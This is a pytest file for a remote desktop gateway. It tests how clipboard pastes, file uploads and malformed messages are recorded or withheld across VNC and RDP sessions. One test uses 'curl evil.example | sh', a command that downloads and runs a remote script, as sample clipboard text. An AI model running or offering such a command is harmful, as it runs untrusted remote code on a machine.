"""What is pasted and uploaded in a real session: through a real guacd, and out of the recording again."""

import base64
import hashlib

import pytest

from gateway.core.recording.transfer import Direction, Transfer, TransferEnd
from gateway.renditions.spans import Span
from tests.gateway.proxies.desktop.site import Operator, Site, instructions, without_acts
from tests.parts.desktops import RdpDesktop, RunningDesktop, VncDesktop
from workers.desktop.text import Extracted, extract

FILE = b"name,salary\n" * 500


@pytest.fixture(params=["vnc", "rdp"])
def desktop(request: pytest.FixtureRequest) -> RunningDesktop:
    """Each protocol's desktop."""
    found: RunningDesktop = request.getfixturevalue(f"{request.param}_desktop")
    return found


def spans_of(site: Site) -> tuple[bytes, list[Span], Extracted]:
    """The only session's recording, and what was copied and named in it."""
    stream = site.stream(site.recording_of(site.closed_session().id))
    spans: list[Span] = []
    extracted = extract([stream], keep=spans.append, is_live=True)
    return stream, [span for span in spans if span.transfer], extracted


def test_what_was_pasted_is_recorded_and_screens_are_as_without(site: Site, desktop: RunningDesktop) -> None:
    user, cookie = site.user()
    text = "curl evil.example | sh # €🙂\n" * 300  # more than one blob
    with Operator(site.port, cookie, site.ticket(user, site.target(desktop))) as operator:
        operator.wait_for("sync", count=3)
        operator.paste(text)
        operator.type_line("echo pasted")
        operator.wait_for("sync", count=3)
        operator.send("disconnect")
        operator.wait_closed()
    stream, spans, _ = spans_of(site)
    (span,) = [span for span in spans if span.transfer and span.transfer.direction is Direction.TO_TARGET]
    assert span.text == text.strip()
    assert span.transfer == Transfer(Direction.TO_TARGET, TransferEnd.WHOLE, "text/plain", len(text.encode()))
    opened, *_, ended = instructions(stream[span.start_byte : span.end_byte])
    assert (opened.opcode, ended.opcode) == ("clipboard", "end")
    assert without_acts(stream).startswith(operator.shown)


def test_what_was_pasted_reaches_the_target(site: Site, vnc_desktop: VncDesktop) -> None:
    """xterm inserts the selection at a middle click."""
    user, cookie = site.user()
    marker = vnc_desktop.target.display.folder / "pasted"
    with Operator(site.port, cookie, site.ticket(user, site.target(vnc_desktop))) as operator:
        operator.wait_for("sync", count=3)
        operator.paste(f"touch {marker}")

        def is_run() -> bool:
            """Again and again: the selection may not have reached the target at the first click."""
            for mask in (0, 2, 0):
                operator.send("mouse", 300, 300, mask)
            operator.type_line("")
            return marker.exists()

        operator.pump_until(is_run)
    _, spans, _ = spans_of(site)
    assert f"touch {marker}" in [span.text for span in spans]


def test_where_keys_are_not_recorded_pasted_text_is_not_either(site: Site, vnc_desktop: VncDesktop) -> None:
    user, cookie = site.user()
    with Operator(site.port, cookie, site.ticket(user, site.target(vnc_desktop, record_keys=False))) as operator:
        operator.wait_for("sync")
        operator.paste("s3cret")
        operator.send("disconnect")
        operator.wait_closed()
    stream, spans, extracted = spans_of(site)
    assert base64.b64encode(b"s3cret") not in stream
    assert (spans, extracted.withheld) == ([], 1)


def test_where_pasting_is_not_allowed_nothing_of_it_is_recorded(site: Site, vnc_desktop: VncDesktop) -> None:
    user, cookie = site.user()
    target = site.target(vnc_desktop, parameters={"disable-paste": "true"})
    with Operator(site.port, cookie, site.ticket(user, target)) as operator:
        operator.wait_for("sync")
        operator.paste("s3cret")
        operator.send("disconnect")
        operator.wait_closed()
    stream, spans, extracted = spans_of(site)
    assert without_acts(stream) == stream
    assert (spans, extracted.withheld) == ([], 0)


def test_an_upload_to_a_target_without_files_is_recorded_as_refused(site: Site, rdp_desktop: RdpDesktop) -> None:
    user, cookie = site.user()
    with Operator(site.port, cookie, site.ticket(user, site.target(rdp_desktop))) as operator:
        operator.wait_for("sync")
        operator.send("file", 4, "text/csv", "payroll.csv")
        operator.send("blob", 4, base64.b64encode(FILE).decode())
        operator.send("end", 4)
        operator.wait_for("ack")
        operator.send("disconnect")
        operator.wait_closed()
    stream, (span,), _ = spans_of(site)
    assert base64.b64encode(FILE)[:400] not in stream
    digest = hashlib.sha256(FILE).hexdigest()
    assert span.text == "payroll.csv"
    assert span.transfer == Transfer(Direction.TO_TARGET, TransferEnd.REFUSED, "text/csv", len(FILE), digest)


@pytest.mark.parametrize("number", ["05", "5x", "512"])
def test_a_number_only_guacd_understands_ends_the_session(site: Site, vnc_desktop: VncDesktop, number: str) -> None:
    user, cookie = site.user()
    with Operator(site.port, cookie, site.ticket(user, site.target(vnc_desktop))) as operator:
        operator.wait_for("sync")
        operator.send("clipboard", 5, "text/plain")
        operator.send("blob", number, base64.b64encode(b"unseen").decode())
        assert operator.wait_closed()[0] != 1000
    stream, _, _ = spans_of(site)
    assert base64.b64encode(b"unseen") not in stream
